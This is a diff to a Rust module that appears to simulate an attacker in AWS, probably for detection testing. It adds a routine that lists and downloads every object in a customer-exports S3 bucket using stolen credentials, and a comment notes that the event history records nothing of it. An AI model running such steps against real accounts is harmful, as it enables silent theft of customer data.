@@ -11,6 +11,8 @@ use aws_sdk_lambda::types as lambda;
 use super::{ATTACKER_IP, Attacker, BACKDOOR, DROP_ACCOUNT, FAR_REGION, OWN_FUNCTION, OWN_ROLE, OWN_RULE, OWN_USER};
 use crate::scenario::means::{Means, REGION};
 
+/// The bucket that is worth stealing from.
+const EXPORTS: &str = "customer-exports-111122223333";
 const KEY_PAIR: &str = "k";
 /// The attacker's own identity provider.
 const PROVIDER: &str = "id.example.org";
@@ -216,6 +218,23 @@ impl Attacker {
             let call = format!("aws secretsmanager get-secret-value --secret-id {name}");
             self.show(&call, &read, |read| {
                 format!("{} characters", read.secret_string().map(str::len).unwrap_or_default())
+            });
+        }
+        self.read_exports().await;
+    }
+
+    /// The event history shows nothing of this.
+    async fn read_exports(&self) {
+        let client = self.key.s3();
+        let listed = client.list_objects_v2().bucket(EXPORTS).send().await;
+        let keys = |listed: &aws_sdk_s3::operation::list_objects_v2::ListObjectsV2Output| -> Vec<String> {
+            listed.contents().iter().filter_map(|object| object.key().map(str::to_owned)).collect()
+        };
+        self.show(&format!("aws s3 ls s3://{EXPORTS}"), &listed, |listed| keys(listed).join(", "));
+        for key in listed.as_ref().map(keys).unwrap_or_default() {
+            let read = client.get_object().bucket(EXPORTS).key(&key).send().await;
+            self.show(&format!("aws s3 cp s3://{EXPORTS}/{key} -"), &read, |read| {
+                format!("{} bytes", read.content_length().unwrap_or_default())
             });
         }
     }
